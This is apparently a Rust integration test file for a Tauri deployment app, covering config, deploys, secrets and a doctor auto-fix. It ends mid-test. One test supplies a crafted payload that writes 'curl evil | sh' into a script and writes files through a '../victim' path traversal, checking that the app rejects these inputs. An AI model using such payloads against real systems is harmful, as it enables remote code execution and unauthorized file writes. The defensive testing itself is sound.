//! The app's commands through Tauri's mock runtime, headless: the simple ones through the IPC
//! as the UI calls them, the streaming ones directly with a channel that collects the events.

use ferry_app::commands;
use ferry_app::AppState;
use ferry_core::adapters::secret::Secret;
use ferry_core::adapters::secrets::Keyring;
use ferry_core::events::Event;
use ferry_core::testbed::Testbed;
use serde_json::{json, Value};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{mpsc, Arc, Mutex};
use std::time::{Duration, Instant};
use tauri::ipc::{CallbackFn, Channel, InvokeBody, InvokeResponseBody};
use tauri::test::{mock_builder, mock_context, noop_assets, MockRuntime, INVOKE_KEY};
use tauri::webview::InvokeRequest;
use tauri::{App, Manager, WebviewWindow, WebviewWindowBuilder};

/// A mock app with its own identifier (so its own store file) under a temporary data dir.
struct TestApp {
    app: App<MockRuntime>,
    window: WebviewWindow<MockRuntime>,
    keyring: Keyring,
}

fn data_home() -> &'static Path {
    static DIR: std::sync::OnceLock<tempfile::TempDir> = std::sync::OnceLock::new();
    DIR.get_or_init(|| {
        let dir = tempfile::tempdir().unwrap();
        std::env::set_var("XDG_DATA_HOME", dir.path());
        dir
    })
    .path()
}

fn app() -> TestApp {
    static N: AtomicUsize = AtomicUsize::new(0);
    data_home();
    let keyring = Keyring::with_store(keyring_core::mock::Store::new().unwrap());
    let mut context = mock_context(noop_assets());
    context.config_mut().identifier =
        format!("dev.ferry.app.test{}", N.fetch_add(1, Ordering::Relaxed));
    let app = ferry_app::app(mock_builder(), keyring.clone())
        .build(context)
        .unwrap();
    let window = WebviewWindowBuilder::new(&app, "main", Default::default())
        .build()
        .unwrap();
    TestApp {
        app,
        window,
        keyring,
    }
}

/// `invoke(cmd, args)` as the UI does it (camelCase argument keys).
fn invoke(window: &WebviewWindow<MockRuntime>, cmd: &str, args: Value) -> Result<Value, Value> {
    let request = InvokeRequest {
        cmd: cmd.into(),
        callback: CallbackFn(0),
        error: CallbackFn(1),
        // Linux's IPC origin.
        url: "tauri://localhost".parse().unwrap(),
        body: InvokeBody::Json(args),
        headers: Default::default(),
        invoke_key: INVOKE_KEY.to_string(),
    };
    tauri::test::get_ipc_response(window, request).map(|body| body.deserialize::<Value>().unwrap())
}

impl TestApp {
    fn invoke(&self, cmd: &str, args: Value) -> Result<Value, Value> {
        invoke(&self.window, cmd, args)
    }

    fn state(&self) -> tauri::State<'_, AppState> {
        self.app.state::<AppState>()
    }
}

/// A channel that keeps every event, and says when the final one came.
struct Stream {
    events: Arc<Mutex<Vec<Event>>>,
    done: mpsc::Receiver<()>,
}

fn stream() -> (Channel<Event>, Stream) {
    let events = Arc::new(Mutex::new(Vec::new()));
    let (tx, done) = mpsc::channel();
    let kept = events.clone();
    let channel = Channel::new(move |body| {
        let InvokeResponseBody::Json(json) = body else {
            panic!("events are JSON")
        };
        let event: Event = serde_json::from_str(&json).unwrap();
        let last = event.is_final();
        kept.lock().unwrap().push(event);
        if last {
            let _ = tx.send(());
        }
        Ok(())
    });
    (channel, Stream { events, done })
}

impl Stream {
    /// Waits until an event matching `found` has arrived.
    fn wait_for(&self, limit: Duration, found: impl Fn(&Event) -> bool) {
        let start = Instant::now();
        while !self.events.lock().unwrap().iter().any(&found) {
            assert!(
                start.elapsed() < limit,
                "{:#?}",
                self.events.lock().unwrap()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// Every event, once the final one arrived (within `limit`).
    fn wait(&self, limit: Duration) -> Vec<Event> {
        self.done
            .recv_timeout(limit)
            .expect("the stream ends with finished or failed");
        // Nothing may follow the final event.
        std::thread::sleep(Duration::from_millis(50));
        let events = self.events.lock().unwrap().clone();
        assert_eq!(
            events.iter().filter(|e| e.is_final()).count(),
            1,
            "{events:#?}"
        );
        assert!(events.last().unwrap().is_final(), "{events:#?}");
        events
    }
}

/// The `AppError` the `data` event of kind `error` carried before `failed`.
fn error_of(events: &[Event]) -> Value {
    let n = events.len();
    assert!(n >= 2, "{events:#?}");
    match (&events[n - 2], &events[n - 1]) {
        (Event::Data { kind, data, .. }, Event::Failed { message, .. }) if kind == "error" => {
            assert_eq!(data["message"], message.as_str());
            data.clone()
        }
        _ => panic!("expected data(error) then failed: {events:#?}"),
    }
}

fn steps(events: &[Event]) -> Vec<String> {
    events
        .iter()
        .filter_map(|e| match e {
            Event::StepStarted { step, .. } => Some(step.label().to_string()),
            _ => None,
        })
        .collect()
}

fn config_json(host: &str, port: u16) -> Value {
    json!({
        "app": { "name": "hello", "context": ".", "platform": "auto" },
        "server": { "host": host, "port": port, "user": "deployer" },
        "container": {
            "ports": ["18080:8080"],
            "env": { "GREETING": "你好 'world'" },
            "volumes": [],
            "restart": "unless-stopped",
            "memory": "64m"
        },
        "health": { "path": "/healthz", "timeout_secs": 20 }
    })
}

/// A project folder with a ferry.toml written from `config`.
fn project(config: Value) -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let config = ferry_core::formats::config::Config::from_json(config).unwrap();
    let path = ferry_core::formats::config::save(dir.path(), &config).unwrap();
    (dir, path.display().to_string())
}

#[test]
fn config_toml_and_save_config_round_trip() {
    let t = app();
    let config = config_json("203.0.113.10", 22);
    let text = t
        .invoke("config_toml", json!({ "config": config }))
        .unwrap();
    let text = text.as_str().unwrap().to_string();
    assert!(text.contains("[server]\nhost = \"203.0.113.10\""), "{text}");

    let dir = tempfile::tempdir().unwrap();
    let dir_arg = dir.path().display().to_string();
    let path = t
        .invoke("save_config", json!({ "dir": dir_arg, "config": config }))
        .unwrap();
    let path = PathBuf::from(path.as_str().unwrap());
    assert_eq!(path, dir.path().join("ferry.toml"));
    assert_eq!(std::fs::read_to_string(&path).unwrap(), text);

    // The saved file reads back as the same config, through the core's parser.
    let info = t
        .invoke("inspect_project", json!({ "dir": dir_arg }))
        .unwrap();
    assert_eq!(info["config"], config);
    assert_eq!(info["config_error"], Value::Null);
}

#[test]
fn a_bad_value_is_a_config_error_naming_its_key() {
    let t = app();
    let mut config = config_json("203.0.113.10", 22);
    config["container"]["ports"][0] = json!("8080-8080");
    let err = t
        .invoke("config_toml", json!({ "config": config }))
        .unwrap_err();
    assert_eq!(err["kind"], "config");
    let message = err["message"].as_str().unwrap();
    assert!(message.starts_with("container.ports[0]: "), "{message}");
    assert!(message.contains("SERVER_PORT:CONTAINER_PORT"), "{message}");

    let dir = tempfile::tempdir().unwrap();
    let err = t
        .invoke(
            "save_config",
            json!({ "dir": dir.path().display().to_string(), "config": config }),
        )
        .unwrap_err();
    assert_eq!(err["kind"], "config");
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0);
}

#[test]
fn inspect_project_previews_the_generated_dockerfile() {
    let t = app();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("go.mod"),
        "module example.com/shop\n\ngo 1.22\n",
    )
    .unwrap();
    std::fs::create_dir_all(dir.path().join("cmd/api")).unwrap();
    std::fs::write(
        dir.path().join("cmd/api/main.go"),
        "package main\n\nfunc main() {}\n",
    )
    .unwrap();
    let info = t
        .invoke(
            "inspect_project",
            json!({ "dir": dir.path().display().to_string() }),
        )
        .unwrap();
    assert_eq!(info["module"], "example.com/shop");
    assert_eq!(info["go_version"], "1.22");
    assert_eq!(info["main_package"], "./cmd/api");
    assert_eq!(info["has_dockerfile"], false);
    assert_eq!(info["config"], Value::Null);
    assert_eq!(info["go_error"], Value::Null);
    let dockerfile = info["generated_dockerfile"].as_str().unwrap();
    assert!(
        dockerfile.contains("FROM --platform=$BUILDPLATFORM golang:1.22 AS build"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("./cmd/api"), "{dockerfile}");
}

#[test]
fn docker_info_describes_the_local_engine() {
    let t = app();
    let info = t.invoke("docker_info", json!({})).unwrap();
    assert_eq!(info["os_type"], "linux");
    assert!(!info["version"].as_str().unwrap().is_empty(), "{info}");
    assert!(!info["api_version"].as_str().unwrap().is_empty(), "{info}");
    assert!(info["buildkit_available"].is_boolean(), "{info}");
}

#[test]
fn deploy_to_an_unreachable_server_fails_with_kind_unreachable_and_is_recorded() {
    let t = app();
    let (_dir, path) = project(config_json("127.0.0.1", 1));
    let (channel, events) = stream();
    let op = tauri::async_runtime::block_on(commands::deploy(
        t.app.handle().clone(),
        path.clone(),
        None,
        channel,
    ))
    .unwrap();
    assert!(op > 0);
    let events = events.wait(Duration::from_secs(30));
    assert_eq!(steps(&events), ["connect"]);
    let error = error_of(&events);
    assert_eq!(error["kind"], "unreachable");
    assert!(
        error["message"].as_str().unwrap().contains("127.0.0.1:1"),
        "{error}"
    );
    match &events[events.len() - 2] {
        Event::Data { step, .. } => assert_eq!(step.label(), "connect"),
        other => panic!("{other:?}"),
    }

    let history = t.invoke("history", json!({ "configPath": path })).unwrap();
    let history = history.as_array().unwrap();
    assert_eq!(history.len(), 1, "{history:?}");
    assert_eq!(history[0]["result"], "failed");
    assert_eq!(history[0]["version"], Value::Null);
    assert_eq!(history[0]["message"], error["message"]);
    assert!(history[0]["started_at"].as_str().unwrap().ends_with('Z'));
}

/// A project of examples/hello-go (server unreachable) with `migrate.sh` saved with CRLF
/// endings and no shebang: the doctor's `context.crlf_scripts`, fixed by a file edit.
fn crlf_project() -> (tempfile::TempDir, String) {
    let (dir, path) = project(config_json("127.0.0.1", 1));
    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/hello-go");
    for file in ["go.mod", "main.go"] {
        std::fs::copy(example.join(file), dir.path().join(file)).unwrap();
    }
    std::fs::write(dir.path().join("migrate.sh"), CRLF_SCRIPT).unwrap();
    (dir, path)
}

const CRLF_SCRIPT: &[u8] = b"set -e\r\necho migrate\r\n";

/// The findings of a `doctor` run, once its stream has finished.
fn doctor_findings(t: &TestApp, path: &str) -> Vec<Value> {
    let (channel, events) = stream();
    tauri::async_runtime::block_on(commands::doctor(
        t.app.handle().clone(),
        path.to_string(),
        None,
        channel,
    ))
    .unwrap();
    let events = events.wait(Duration::from_secs(120));
    // Problems are findings; the stream itself finishes.
    assert!(
        matches!(events.last(), Some(Event::Finished { .. })),
        "{events:#?}"
    );
    events
        .iter()
        .filter_map(|e| match e {
            Event::Data { kind, data, .. } if kind == "finding" => Some(data.clone()),
            _ => None,
        })
        .collect()
}

#[track_caller]
fn finding_of(findings: &[Value], id: &str) -> Value {
    let found = findings.iter().find(|f| f["id"] == id);
    found
        .cloned()
        .unwrap_or_else(|| panic!("no {id} in {findings:#?}"))
}

/// Every file under `dir` with its content (symlinks as their target), to see what changed.
fn snapshot(dir: &Path) -> std::collections::BTreeMap<PathBuf, Vec<u8>> {
    let mut files = std::collections::BTreeMap::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                todo.push(path);
            } else if meta.file_type().is_symlink() {
                let target = std::fs::read_link(&path).unwrap();
                files.insert(path, target.into_os_string().into_encoded_bytes());
            } else {
                files.insert(path.clone(), std::fs::read(&path).unwrap());
            }
        }
    }
    files
}

#[test]
fn doctor_streams_findings_and_apply_fix_changes_only_what_it_checked() {
    let t = app();
    let (dir, path) = crlf_project();
    let script = dir.path().join("migrate.sh");

    let findings = doctor_findings(&t, &path);
    assert_eq!(
        finding_of(&findings, "server.unreachable")["severity"],
        "error"
    );
    let crlf = finding_of(&findings, "context.crlf_scripts");
    assert_eq!(crlf["severity"], "warning");
    assert_eq!(crlf["auto_fix"]["action"]["kind"], "edit_files");
    assert_eq!(
        std::fs::read(&script).unwrap(),
        CRLF_SCRIPT,
        "finding a problem changes nothing"
    );
    let before = snapshot(dir.path());

    let apply = json!({
        "configPath": path,
        "id": "context.crlf_scripts",
        "digest": crlf["auto_fix"]["digest"],
        "trustHostKey": null
    });
    let applied = t.invoke("apply_fix", apply.clone());
    assert_eq!(applied, Ok(crlf["auto_fix"]["label"].clone()));
    assert_eq!(std::fs::read(&script).unwrap(), b"set -e\necho migrate\n");
    let mut expected = before;
    expected.insert(script.clone(), b"set -e\necho migrate\n".to_vec());
    assert_eq!(snapshot(dir.path()), expected, "only the script changed");

    // The same fix again: the checks no longer find the problem.
    let refused = t.invoke("apply_fix", apply).unwrap_err();
    assert_eq!(refused["kind"], "fix_refused", "{refused}");
    let message = refused["message"].as_str().unwrap();
    assert!(
        message.contains("found no `context.crlf_scripts`"),
        "{message}"
    );
    assert!(
        message.contains("Findings with an automatic fix now: "),
        "{message}"
    );
    assert_eq!(std::fs::read(&script).unwrap(), b"set -e\necho migrate\n");
}

#[test]
fn a_script_edited_after_the_check_is_not_overwritten_by_its_fix() {
    let t = app();
    let (dir, path) = crlf_project();
    let script = dir.path().join("migrate.sh");
    let crlf = finding_of(&doctor_findings(&t, &path), "context.crlf_scripts");

    // The user edits the script (still CRLF) while the preview is on screen.
    let edited = b"set -e\r\necho migrate --all\r\n";
    std::fs::write(&script, edited).unwrap();
    let refused = t
        .invoke(
            "apply_fix",
            json!({
                "configPath": path,
                "id": "context.crlf_scripts",
                "digest": crlf["auto_fix"]["digest"],
                "trustHostKey": null
            }),
        )
        .unwrap_err();
    assert_eq!(refused["kind"], "fix_refused", "{refused}");
    let message = refused["message"].as_str().unwrap();
    assert!(
        message.contains("is no longer the one you were shown: what it writes to `migrate.sh`"),
        "{message}"
    );
    assert!(message.contains("Run the checks again"), "{message}");
    assert_eq!(std::fs::read(&script).unwrap(), edited, "the edit is kept");
}

#[test]
fn a_crafted_apply_fix_writes_and_runs_nothing_it_was_sent() {
    let t = app();
    let (dir, path) = crlf_project();
    let script = dir.path().join("migrate.sh");
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim");
    let marker = outside.path().join("ran");
    let crlf = finding_of(&doctor_findings(&t, &path), "context.crlf_scripts");
    let before = snapshot(dir.path());

    // What a compromised webview might send: its own commands, file contents and paths.
    let touch = marker.display().to_string();
    let crafted_fix = json!({
        "label": { "en": "Convert to LF", "zh": "转换为 LF 换行" },
        "action": { "kind": "edit_files", "files": [
            { "path": victim.display().to_string(), "base_sha256": null, "content": "pwned" },
            { "path": "migrate.sh", "base_sha256": null, "content": "curl evil | sh\n" },
            { "path": "../victim", "base_sha256": null, "content": "pwned" }
        ] }
    });
    let crafted_commands = json!({
        "label": { "en": "Open 8080/tcp", "zh": "放行 8080/tcp" },
        "action": { "kind": "run_on_server", "commands": [
            { "argv": ["touch", touch], "shell": format!("touch {touch}") }
        ] }
    });

    // The old shape, a whole fix and no finding id: refused before anything runs.
    for fix in [&crafted_fix, &crafted_commands] {
        let refused = t
            .invoke("apply_fix", json!({ "configPath": path, "fix": fix }))
            .unwrap_err();
        let message = refused.as_str().unwrap_or_default();
        assert!(message.contains("missing required key id"), "{refused}");
    }
    assert_eq!(snapshot(dir.path()), before);

    // A finding id with no automatic fix, carrying a fix of its own: refused, naming the ids
    // that have one.
    let refused = t
        .invoke(
            "apply_fix",
            json!({
                "configPath": path,
                "id": "server.unreachable",
                "digest": crlf["auto_fix"]["digest"],
                "fix": crafted_commands,
                "argv": ["touch", touch],
            }),
        )
        .unwrap_err();
    assert_eq!(refused["kind"], "fix_refused", "{refused}");
    let message = refused["message"].as_str().unwrap();
    assert!(
        message.starts_with("`server.unreachable` has no automatic fix"),
        "{message}"
    );
    assert!(message.contains("context.crlf_scripts"), "{message}");

    // The digest of a fix of its own: the fix the checks derive is another one, so refused.
    let forged =
        ferry_core::doctor::sha256_hex(&serde_json::to_vec(&crafted_fix["action"]).unwrap());
    let refused = t
        .invoke(
            "apply_fix",
            json!({ "configPath": path, "id": "context.crlf_scripts", "digest": forged }),
        )
        .unwrap_err();
    assert_eq!(refused["kind"], "fix_refused", "{refused}");
    assert_eq!(snapshot(dir.path()), before);

    // A real finding id and the digest shown, with a fix, path and content of its own besides:
    // those are ignored, and the finding's own edit is what is written.
    let applied = t.invoke(
        "apply_fix",
        json!({
            "configPath": path,
            "id": "context.crlf_scripts",
            "digest": crlf["auto_fix"]["digest"],
            "fix": crafted_fix,
            "commands": crafted_commands["action"]["commands"],
            "path": victim.display().to_string(),
            "content": "pwned",
        }),
    );
    assert_eq!(applied, Ok(crlf["auto_fix"]["label"].clone()));
    let mut expected = before;
    expected.insert(script.clone(), b"set -e\necho migrate\n".to_vec());
    assert_eq!(
        snapshot(dir.path()),
        expected,
        "only the finding's own edit"
    );
    assert!(!victim.exists(), "nothing written outside the project");
    assert!(!dir.path().parent().unwrap().join("victim").exists());
    assert!(!marker.exists(), "nothing it was sent ran");
}

#[test]
fn a_missing_config_fails_the_stream_with_kind_config() {
    let t = app();
    let (channel, events) = stream();
    let missing = "/nonexistent/ferry.toml".to_string();
    tauri::async_runtime::block_on(commands::rollback(
        t.app.handle().clone(),
        missing,
        None,
        channel,
    ))
    .unwrap();
    let events = events.wait(Duration::from_secs(10));
    assert_eq!(events.len(), 2, "{events:#?}");
    assert_eq!(error_of(&events)["kind"], "config");
}

/// A TCP port that accepts connections and never says a word (an SSH server that hangs).
fn silent_server() -> (TcpListener, u16) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    (listener, port)
}

#[test]
fn cancel_stops_a_deploy_at_once_and_history_says_cancelled() {
    let t = app();
    let (_listener, port) = silent_server();
    let (_dir, path) = project(config_json("127.0.0.1", port));
    let (channel, events) = stream();
    let op = tauri::async_runtime::block_on(commands::deploy(
        t.app.handle().clone(),
        path.clone(),
        None,
        channel,
    ))
    .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let asked = Instant::now();
    t.invoke("cancel", json!({ "op": op })).unwrap();
    let events = events.wait(Duration::from_secs(5));
    assert!(
        asked.elapsed() < Duration::from_secs(2),
        "{:?}",
        asked.elapsed()
    );
    assert_eq!(error_of(&events)["kind"], "cancelled");
    // A finished operation is no longer cancellable; asking is harmless.
    assert!(!t.state().operations.cancel(op));
    assert_eq!(
        t.invoke("cancel", json!({ "op": op })).unwrap(),
        Value::Null
    );

    let history = t.invoke("history", json!({ "configPath": path })).unwrap();
    assert_eq!(history[0]["result"], "cancelled");
}

#[test]
fn status_of_a_hanging_server_holds_up_no_other() {
    let t = app();
    let (_listener, port) = silent_server();
    let (_hanging_dir, hanging) = project(config_json("127.0.0.1", port));
    let (_refused_dir, refused) = project(config_json("127.0.0.1", 1));

    let slow = {
        let window = t.window.clone();
        std::thread::spawn(move || invoke(&window, "status", json!({ "configPath": hanging })))
    };
    std::thread::sleep(Duration::from_millis(200));
    let asked = Instant::now();
    let err = t
        .invoke("status", json!({ "configPath": refused }))
        .unwrap_err();
    assert!(
        asked.elapsed() < Duration::from_secs(3),
        "{:?}",
        asked.elapsed()
    );
    assert_eq!(err["kind"], "unreachable");
    assert!(
        !slow.is_finished(),
        "the hanging server waits for its timeout"
    );
    // The hanging server ends with the connect timeout, as unreachable.
    let err = slow.join().unwrap().unwrap_err();
    assert_eq!(err["kind"], "unreachable", "{err}");
}

#[test]
fn secret_status_says_which_passwords_are_saved() {
    let t = app();
    let mut config = config_json("203.0.113.10", 22);
    config["registry"] =
        json!({ "server": "reg:5000", "username": "deploy", "repository": "t/hello" });
    let (_dir, path) = project(config);
    t.keyring
        .set("ssh/deployer@203.0.113.10:22", &Secret::new("pw"))
        .unwrap();
    let saved = t
        .invoke("secret_status", json!({ "configPath": path }))
        .unwrap();
    assert_eq!(
        saved,
        json!([
            { "name": "registry/reg:5000/deploy", "saved": false },
            { "name": "ssh/deployer@203.0.113.10:22", "saved": true }
        ])
    );
}

#[test]
fn save_env_secret_keeps_the_value_in_the_keyring_under_the_app_and_name() {
    let t = app();
    let value = "s3cr3t 'quoted' $(id)\nline two";
    let entry = t
        .invoke(
            "save_env_secret",
            json!({ "app": "hello", "name": "DB_PASSWORD", "value": value }),
        )
        .unwrap();
    assert_eq!(entry, "env/hello/DB_PASSWORD");
    let saved = t.keyring.get("env/hello/DB_PASSWORD").unwrap().unwrap();
    assert_eq!(saved.expose(), value);

    // secret_status of a project listing it in secret_env now says it is saved.
    let mut config = config_json("203.0.113.10", 22);
    config["container"]["secret_env"] = json!(["DB_PASSWORD", "API_TOKEN"]);
    let (_dir, path) = project(config);
    let status = t
        .invoke("secret_status", json!({ "configPath": path }))
        .unwrap();
    assert_eq!(
        status,
        json!([
            { "name": "ssh/deployer@203.0.113.10:22", "saved": false },
            { "name": "env/hello/DB_PASSWORD", "saved": true },
            { "name": "env/hello/API_TOKEN", "saved": false }
        ])
    );
}

#[test]
fn save_env_secret_refuses_a_bad_name_or_app_and_never_echoes_the_value() {
    let t = app();
    for (app, name, says) in [
        ("hello", "DB-PASSWORD", "not an environment variable name"),
        (
            "hello",
            "../../ssh/deployer@h:22",
            "not an environment variable name",
        ),
        ("hello", "2FA", "not an environment variable name"),
        ("../ssh", "DB_PASSWORD", "not a valid container name"),
        ("hello world", "DB_PASSWORD", "not a valid container name"),
        ("", "DB_PASSWORD", "not a valid container name"),
    ] {
        let err = t
            .invoke(
                "save_env_secret",
                json!({ "app": app, "name": name, "value": "hunter2" }),
            )
            .unwrap_err();
        assert_eq!(err["kind"], "config", "{app} {name}: {err}");
        let message = err["message"].as_str().unwrap();
        assert!(message.contains(says), "{app} {name}: {message}");
        assert!(!message.contains("hunter2"), "{message}");
    }
    let err = t
        .invoke(
            "save_env_secret",
            json!({ "app": "hello", "name": "DB_PASSWORD", "value": "" }),
        )
        .unwrap_err();
    assert_eq!(err["kind"], "config", "{err}");
    assert!(t.keyring.get("env/hello/DB_PASSWORD").unwrap().is_none());
}

#[test]
fn test_connection_names_a_refused_server_unreachable() {
    let t = app();
    let err = t
        .invoke(
            "test_connection",
            json!({
                "server": { "host": "127.0.0.1", "port": 1, "user": "deployer" },
                "auth": { "kind": "password", "password": "pw", "save": true },
                "trustHostKey": null
            }),
        )
        .unwrap_err();
    assert_eq!(err["kind"], "unreachable");
    // Nothing is saved for a login that did not work.
    assert!(t.keyring.get("ssh/deployer@127.0.0.1:1").unwrap().is_none());
}

/// Runs `docker` against the testbed server's own engine; its stdout.
fn server_docker(tb: &Testbed, args: &[&str]) -> String {
    let out = std::process::Command::new("docker")
        .args(args)
        .env("DOCKER_HOST", tb.get("FERRY_TB_SERVER_DOCKER_HOST"))
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Removes every container of `app` on the testbed server.
fn clean_server(tb: &Testbed, app: &str) {
    let filter = format!("label=ferry.app={app}");
    for id in server_docker(tb, &["ps", "-aq", "--filter", &filter]).split_whitespace() {
        server_docker(tb, &["rm", "-f", id]);
    }
}

#[test]
fn deploys_to_the_testbed_then_shows_status_logs_and_history() {
    let Some(tb) = Testbed::load() else {
        return;
    };
    let t = app();
    let name = "app-shell";
    clean_server(&tb, name);
    let dir = tempfile::tempdir().unwrap();
    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/hello-go");
    for file in ["go.mod", "main.go"] {
        std::fs::copy(example.join(file), dir.path().join(file)).unwrap();
    }
    let config = json!({
        "app": {
            "name": name, "context": ".", "platform": "auto",
            "builder_image": tb.get("FERRY_TB_GO_IMAGE"),
            "runtime_image": tb.get("FERRY_TB_RUNTIME_IMAGE")
        },
        "server": {
            "host": tb.get("FERRY_TB_SERVER_HOST"),
            "port": tb.get("FERRY_TB_SERVER_PORT").parse::<u16>().unwrap(),
            "user": tb.get("FERRY_TB_SERVER_USER"),
            "identity_file": tb.get("FERRY_TB_KEY"),
            "host_key": tb.get("FERRY_TB_HOST_KEY")
        },
        "container": {
            "ports": ["18291:8080"], "env": { "GREETING": "hello from the app" },
            "volumes": [], "restart": "unless-stopped", "memory": "128m"
        },
        "health": { "path": "/healthz", "timeout_secs": 20 }
    });
    let path = t
        .invoke(
            "save_config",
            json!({ "dir": dir.path().display().to_string(), "config": config }),
        )
        .unwrap();
    let path = path.as_str().unwrap().to_string();
    let handle = || t.app.handle().clone();

    let (channel, events) = stream();
    tauri::async_runtime::block_on(commands::deploy(handle(), path.clone(), None, channel))
        .unwrap();
    let events = events.wait(Duration::from_secs(300));
    match events.last().unwrap() {
        Event::Finished { message, .. } => assert!(message.contains("is live at"), "{message}"),
        other => panic!("{other:?}\n{events:#?}"),
    }
    assert_eq!(
        steps(&events),
        ["connect", "probe", "check", "build", "transfer", "start"],
        "without a registry the image goes over SSH"
    );
    assert!(events
        .iter()
        .any(|e| matches!(e, Event::Progress { step, .. } if step.label() == "transfer")));

    let history = t.invoke("history", json!({ "configPath": path })).unwrap();
    assert_eq!(history[0]["result"], "finished", "{history}");
    let version = history[0]["version"].as_str().unwrap().to_string();

    // Status twice: the second call reuses the first one's connection.
    for _ in 0..2 {
        let status = t.invoke("status", json!({ "configPath": path })).unwrap();
        assert_eq!(status["state"], "running", "{status}");
        assert_eq!(status["version"], version.as_str());
    }

    for action in ["stop", "start", "restart"] {
        let done = t.invoke(
            "container_action",
            json!({ "configPath": path, "action": action }),
        );
        assert_eq!(done, Ok(Value::Null), "{action}");
    }
    let status = t.invoke("status", json!({ "configPath": path })).unwrap();
    assert_eq!(status["state"], "running", "{status}");
    assert_eq!(
        status["restart_count"], 0,
        "a manual restart is not a crash"
    );
    assert_eq!(
        http_get(tb.get("FERRY_TB_SERVER_HOST"), 18291),
        "hello from the app"
    );
    // The server page and the release list, over the same kept connection.
    let overview = t
        .invoke("server_overview", json!({ "configPath": path }))
        .unwrap();
    let ours = overview["containers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == status["app"])
        .cloned()
        .unwrap_or_else(|| panic!("{overview}"));
    assert_eq!(ours["release"], status["version"], "{ours}");
    assert!(overview["system"]["memory"]["total"].as_u64().unwrap() > 0);
    let releases = t.invoke("releases", json!({ "configPath": path })).unwrap();
    assert_eq!(releases["releases"][0]["version"], status["version"]);
    assert_eq!(releases["releases"][0]["running"], true);

    // The last lines, then following until cancelled.
    let (channel, events) = stream();
    tauri::async_runtime::block_on(commands::logs(
        handle(),
        path.clone(),
        Some(20),
        false,
        None,
        channel,
    ))
    .unwrap();
    let events = events.wait(Duration::from_secs(30));
    assert!(
        events
            .iter()
            .any(|e| matches!(e, Event::Log { line, .. } if line.contains("listening"))),
        "{events:#?}"
    );
    assert!(matches!(events.last(), Some(Event::Finished { .. })));

    let (channel, events) = stream();
    let op = tauri::async_runtime::block_on(commands::logs(
        handle(),
        path.clone(),
        Some(5),
        true,
        None,
        channel,
    ))
    .unwrap();
    std::thread::sleep(Duration::from_secs(2));
    let asked = Instant::now();
    t.invoke("cancel", json!({ "op": op })).unwrap();
    let events = events.wait(Duration::from_secs(10));
    assert!(
        asked.elapsed() < Duration::from_secs(3),
        "{:?}",
        asked.elapsed()
    );
    assert!(
        matches!(events.last(), Some(Event::Finished { .. })),
        "{events:#?}"
    );

    // A deploy cancelled while it builds stops at once and leaves the release running.
    let (channel, events) = stream();
    let op =
        tauri::async_runtime::block_on(commands::deploy(handle(), path.clone(), None, channel))
            .unwrap();
    events.wait_for(
        Duration::from_secs(60),
        |e| matches!(e, Event::StepStarted { step, .. } if step.label() == "build"),
    );
    let asked = Instant::now();
    t.invoke("cancel", json!({ "op": op })).unwrap();
    let events = events.wait(Duration::from_secs(10));
    assert!(
        asked.elapsed() < Duration::from_secs(2),
        "{:?}",
        asked.elapsed()
    );
    assert_eq!(error_of(&events)["kind"], "cancelled");
    assert!(
        !steps(&events).contains(&"start".to_string()),
        "{events:#?}"
    );
    let status = t.invoke("status", json!({ "configPath": path })).unwrap();
    assert_eq!(status["version"], version.as_str());
    assert_eq!(
        http_get(tb.get("FERRY_TB_SERVER_HOST"), 18291),
        "hello from the app"
    );
    let history = t.invoke("history", json!({ "configPath": path })).unwrap();
    let results: Vec<&str> = history
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["result"].as_str().unwrap())
        .collect();
    assert_eq!(results, ["cancelled", "finished"]);

    clean_server(&tb, name);
}

/// The stand-in firewall of the testbed's CentOS flavour (files of open ports, shared with
/// this machine): whether `port/tcp` is open in `file` ("runtime" or "permanent").
fn standin_firewall_opens(tb: &Testbed, file: &str, port: u16) -> bool {
    let path = format!("{}/{file}", tb.get("FERRY_TB_CENTOS_STATE"));
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .any(|l| l == format!("{port}/tcp"))
}

fn close_in_standin_firewall(tb: &Testbed, port: u16) {
    for file in ["runtime", "permanent"] {
        let path = format!("{}/{file}", tb.get("FERRY_TB_CENTOS_STATE"));
        let kept: String = std::fs::read_to_string(&path)
            .unwrap_or_default()
            .lines()
            .filter(|l| *l != format!("{port}/tcp"))
            .map(|l| format!("{l}\n"))
            .collect();
        std::fs::write(&path, kept).unwrap();
    }
}

#[test]
fn apply_fix_runs_on_the_server_only_the_commands_of_the_finding() {
    let Some(tb) = Testbed::load() else {
        return;
    };
    let t = app();
    let port = 18721;
    close_in_standin_firewall(&tb, port);
    let config = json!({
        "app": { "name": "app-fix", "context": ".", "platform": "auto" },
        "server": {
            "host": tb.get("FERRY_TB_SERVER_HOST"),
            "port": tb.get("FERRY_TB_CENTOS_PORT").parse::<u16>().unwrap(),
            "user": tb.get("FERRY_TB_SERVER_USER"),
            "identity_file": tb.get("FERRY_TB_KEY"),
            "host_key": tb.get("FERRY_TB_HOST_KEY")
        },
        "container": {
            "ports": [format!("{port}:8080")], "env": {}, "volumes": [],
            "restart": "unless-stopped", "memory": "128m"
        },
        "health": { "path": "/healthz", "timeout_secs": 20 }
    });
    let (dir, path) = project(config);
    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/hello-go");
    for file in ["go.mod", "main.go"] {
        std::fs::copy(example.join(file), dir.path().join(file)).unwrap();
    }
